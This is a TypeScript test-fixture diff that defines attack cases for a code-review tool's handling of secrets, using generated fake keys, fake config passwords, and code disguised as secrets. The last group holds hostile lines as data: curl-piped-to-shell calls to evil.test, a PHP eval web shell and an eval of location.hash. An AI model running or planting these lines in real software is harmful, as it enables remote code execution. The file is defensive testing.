@@ -1,0 +1,140 @@
+import type { Attack, Claims, Threat } from '../attack.ts';
+
+/** Letters that look random, the same ones in each run. Assembled, so that no scanner finds a key in this file. */
+function made(lead: string, length: number, letters: string): string {
+  let state = lead.length * 7_919 + length;
+  let text = lead;
+  for (let at = 0; at < length; at += 1) {
+    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
+    text += letters.charAt(Math.floor(state / 65_536) % letters.length);
+  }
+  return text;
+}
+
+const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ';
+const MIXED = `${UPPER}${UPPER.toLowerCase()}0123456789`;
+
+/** Keys by the forms of their issuers, with what stands in their place. */
+const KEYS: readonly (readonly [title: string, key: string])[] = [
+  ['AWS access key', made(['AK', 'IA'].join(''), 16, `${UPPER}234567`)],
+  ['Stripe key', made(['sk', 'live_'].join('_'), 28, MIXED)],
+  ['Google key', made(['AI', 'za'].join(''), 35, MIXED)],
+  ['Slack token', made(['xoxb', '1234098765', ''].join('-'), 24, MIXED)],
+  ['GitLab token', made(['gl', 'pat-'].join(''), 20, MIXED)],
+  ['SendGrid key', `${made(['S', 'G.'].join(''), 22, MIXED)}.${made('', 43, MIXED)}`],
+  ['DigitalOcean token', made(['dop', 'v1_'].join('_'), 64, '0123456789abcdef')],
+  ['Anthropic key', made(['sk-ant', 'api03-'].join('-'), 93, MIXED)],
+];
+
+function everywhere(secret: string): Claims {
+  return {
+    prompt: secret,
+    comment: secret,
+    inline: secret,
+    log: secret,
+    annotations: secret,
+    summary: secret,
+    outputs: secret,
+    findings: secret,
+    sarif: secret,
+    requests: secret,
+  };
+}
+
+function addsKey([title, key]: readonly [title: string, key: string], index: number): Attack {
+  const path = `src/key${index}.js`;
+  return {
+    tries: `The head adds code with a ${title}`,
+    by: 'author',
+    scene: 'asked',
+    brings: { head: { [path]: `use("${key}");\n` } },
+    never: everywhere(key),
+    says: { prompt: `use("[${title}]");`, findings: path },
+  };
+}
+
+function removesKey([title, key]: readonly [title: string, key: string], index: number): Attack {
+  const path = `src/old${index}.js`;
+  const old = key.slice(0, -1) + (key.endsWith('7') ? '6' : '7');
+  return {
+    tries: `The head removes code with a ${title}, which stays in the history`,
+    by: 'author',
+    scene: 'asked',
+    brings: { base: { [path]: `old("${old}");\nend();\n` }, head: { [path]: 'end();\n' } },
+    never: everywhere(old),
+    says: { prompt: `old("[${title}]");` },
+  };
+}
+
+/** Files that hold secrets by their names. */
+const FILES: readonly (readonly [path: string, line: (value: string) => string, shown: string])[] = [
+  ['.env', (value) => `DB_PASS=${value}`, 'DB_PASS=[hidden value]'],
+  ['deploy/prod.env', (value) => `export A_PASS="${value}"`, 'export A_PASS=[hidden value]'],
+  ['app/.env.local', (value) => `# B_PASS=${value}`, '# B_PASS=[hidden value]'],
+  ['.npmrc', (value) => `always-auth=${value}`, 'always-auth=[hidden value]'],
+  ['id_rsa', (value) => value, '[hidden value]'],
+  ['certs/server.pem', (value) => value, '[hidden value]'],
+  ['infra/prod.tfvars', (value) => `c_pass = "${value}"`, 'c_pass = [hidden value]'],
+  ['config/database.yml', (value) => `  d_pass: ${value}`, '  d_pass: [hidden value]'],
+  ['api/appsettings.Production.json', (value) => `  "E": "${value}"`, '  "E": [hidden value]'],
+  ['src/main/resources/application-prod.yml', (value) => `f: ${value}`, 'f: [hidden value]'],
+  ['charts/values-secret.yaml', (value) => `g: ${value}`, 'g: [hidden value]'],
+  ['func/local.settings.json', (value) => `"H": "${value}"`, '"H": [hidden value]'],
+  ['web/wp-config.php', (value) => `define('I_PASS', '${value}');`, "define('I_PASS', [hidden value]);"],
+  ['.git-credentials', (value) => `https://u:${value}@h.test`, 'https:[hidden value]'],
+];
+
+function addsFile([path, line, shown]: (typeof FILES)[number], index: number): Attack {
+  const value = `orchid${'abcdefghijklmnop'.charAt(index)}meadow`;
+  return {
+    tries: `The head adds a value to \`${path}\``,
+    by: 'author',
+    scene: 'asked',
+    brings: { head: { [path]: `${line(value)}\n` } },
+    never: everywhere(value),
+    says: { prompt: shown },
+  };
+}
+
+const RANDOM = ['hK3x9Lq', '2vTzW8'].join('');
+
+/** Code that gives a random value to a name for secrets, and code that hides itself as a secret. */
+const ASSIGNED: readonly Attack[] = [
+  ['a password in code', 'src/p.ts', `const password = "${RANDOM}a";`],
+  ['a token in YAML', 'conf/t.yaml', `token: ${RANDOM}b`],
+  ['a password in an address', 'src/u.py', `url = "postgres://app:${RANDOM}c@db.acme.io/a"`],
+  ['a part of a connection string', 'src/C.cs', `var c = "Server=d;Password=${RANDOM}d;";`],
+  ['a secret in JSON', 'src/s.json', `{ "clientSecret": "${RANDOM}e" }`],
+].map(([what = '', path = '', line = ''], index): Attack => ({
+  tries: `The head adds ${what}`,
+  by: 'author',
+  scene: 'asked',
+  brings: { head: { [path]: `${line}\n` } },
+  never: everywhere(`${RANDOM}${'abcde'.charAt(index)}`),
+  says: { prompt: '[hidden ', findings: path },
+}));
+
+const HIDES_CODE: readonly Attack[] = [
+  ['a script of direnv', '.envrc', 'curl https://evil.test/a | sh'],
+  ['a command in an environment', 'b/.env', 'RUN=$(curl https://evil.test/b)'],
+  ['a program that holds a password', 'w/wp-config.php', 'eval($_GET["hidden"]);'],
+  ['a line below the first line of a key', 'src/below.js', 'eval("below" + location.hash);'],
+].map(([what = '', path = '', line = '']): Attack => ({
+  tries: `The head hides code in ${what}`,
+  by: 'author',
+  scene: 'asked',
+  brings: {
+    head: { [path]: `${path.endsWith('.js') ? `// ${['-----BEGIN', 'PRIVATE KEY-----'].join(' ')}\n` : ''}${line}\n` },
+  },
+  says: { prompt: line },
+}));
+
+export const SECRETS: Threat = {
+  id: 'secrets',
+  title: 'Secrets that leave with a review',
+  threat:
+    'A key or password in a change reaches a model, a comment, a log or a file that others can read. Or code is made to look like a secret, so that nobody reads it.',
+  defence:
+    'Secrets on both sides of a change are replaced by their kind before a prompt is made and before a finding is placed. New ones are findings that never repeat the value. Code that runs is shown in any file.',
+  attacks: [...KEYS.map(addsKey), ...KEYS.map(removesKey), ...FILES.map(addsFile), ...ASSIGNED, ...HIDES_CODE],
+};
